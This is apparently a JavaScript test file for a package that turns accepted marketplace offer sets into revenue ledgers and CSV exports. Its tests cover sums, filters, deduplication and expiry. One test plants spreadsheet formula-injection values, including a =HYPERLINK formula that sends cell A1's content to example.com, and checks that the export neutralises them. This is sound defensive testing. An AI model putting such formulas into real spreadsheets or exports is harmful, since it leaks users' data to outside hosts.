// The books over accepted sets, from the package.
import assert from "node:assert/strict";
import { before, test } from "node:test";
import { example, imported, installed, today } from "./support.js";

const folder = installed();
const first = { document: { ...example("two-offers-ready"), id: "offerset-aaa111" }, acceptedOn: today };
const second = { document: example("seven-offers-ready"), acceptedOn: "2026-12-15" };
const expired = { document: example("two-offers-ready"), acceptedOn: "2027-06-01", offeredOn: today };
let offerset;

before(async () => {
  offerset = await imported(folder);
});

test("there is a row for each product and party, and in each the figures add up", () => {
  const { rows, totals, leftOut } = offerset.ledger([first, second]);
  assert.deepEqual(leftOut, []);
  assert.deepEqual(rows.slice(0, 3).map(({ productTitle, role }) => [productTitle, role]), [
    ["Endpoint Shield", "productOwner"],
    ["Monitoring", "channelPartner"],
    ["Monitoring", "productOwner"],
  ]);
  const cents = (amount) => BigInt(amount.replace(".", ""));
  for (const { grossRevenue, wholesaleCost, listingFee, netRevenue } of [...rows, ...totals]) {
    assert.equal(cents(grossRevenue) - cents(wholesaleCost) - cents(listingFee), cents(netRevenue));
  }
  const paid = [first, second].map(({ document, acceptedOn }) => offerset.economics(document, { acceptedOn }).totals[0].contractValue);
  assert.equal(cents(totals[0].buyersPay), paid.map(cents).reduce((sum, amount) => sum + amount));
});

test("the id of a set finds it among others, and the digest one without an id", () => {
  const of = (offerSetId) => offerset.ledger([first, second], { offerSetId }).rows;
  assert.deepEqual(of("offerset-aaa111"), offerset.ledger([first]).rows);
  assert.deepEqual(of(offerset.digest(second.document)), offerset.ledger([second]).rows);
  assert.deepEqual(of("offerset-other"), []);
});

test("a product, a party and a period narrow the books; invoices can be listed one by one", () => {
  const rows = (query) => offerset.ledger([first], query).rows;
  assert.equal(rows({ productId: "prod-bbbbbbbbbbbbb" }).length, 2);
  assert.deepEqual(rows({ party: "777788889999" }), rows({ party: "Example ISV" }));
  assert.deepEqual(rows({ party: "777788889999" }).map(({ grossRevenue }) => grossRevenue), ["20000.00"]);
  const invoices = rows({ detail: "invoice", productId: "prod-aaaaaaaaaaaaa" });
  assert.deepEqual(invoices.map(({ firstInvoiceDate }) => firstInvoiceDate), ["2027-01-15", "2027-07-15"]);
  assert.deepEqual(rows({ from: "2027-07-01", until: "2027-12-31" }).map(({ grossRevenue }) => grossRevenue), ["60000.00"]);
  assert.deepEqual(rows({ detail: "product" }), rows({}));
});

test("a set that is given twice counts once", () => {
  assert.deepEqual(offerset.ledger([first, first]), offerset.ledger([first]));
});

test("a set that can not be accepted is left out with the reason, and CSV is refused", () => {
  const mistakes = { document: example("classic-mistakes"), acceptedOn: today };
  const { rows, leftOut } = offerset.ledger([mistakes, first, expired]);
  assert.deepEqual(rows, offerset.ledger([first]).rows);
  assert.deepEqual(leftOut.map(({ index }) => index), [0, 2]);
  assert.match(leftOut[0].reason, /^the set is not ready, its check finds \d+ errors$/);
  assert.equal(leftOut[1].reason, "the offer set expired at the end of 2027-01-31 (UTC)");
  assert.throws(() => offerset.ledgerCsv([first, expired]), /^Error: ledgerCsv: the set at 1 can not be accepted: the offer set expired/);
});

test("CSV has a header, and a row for each row", () => {
  const [header, ...lines] = offerset.ledgerCsv([first]).trimEnd().split(/\r?\n/);
  assert.match(header, /^"Offer set ID",.*,"Gross revenue",/);
  assert.equal(lines.length, offerset.ledger([first]).rows.length);
  assert.match(lines[0], /^"offerset-aaa111",.*,"USD","120000\.00","0\.00","3\.00",/);
});

test("texts of a seller do not become formulas in a spreadsheet", () => {
  const document = structuredClone(first.document);
  document.name = `=HYPERLINK("http://example.com/?"&A1,"Security bundle")`;
  document.offers[0].product.title = "@SUM(A1:A9)";
  document.offers[1].product.manufacturer.name = "\t+1+1";
  const csv = offerset.ledgerCsv([{ document, acceptedOn: today }]);
  assert.ok(csv.includes(`"'=HYPERLINK(""http://example.com/?""&A1,""Security bundle"")"`), csv);
  assert.ok(csv.includes(`"'@SUM(A1:A9)"`) && csv.includes(`"'\t+1+1"`), csv);
  assert.doesNotMatch(csv, /(^|,)"\s*[=+@-]/m);
});

test("no sets make empty books", () => {
  assert.deepEqual(offerset.ledger([]), { rows: [], totals: [], leftOut: [] });
});
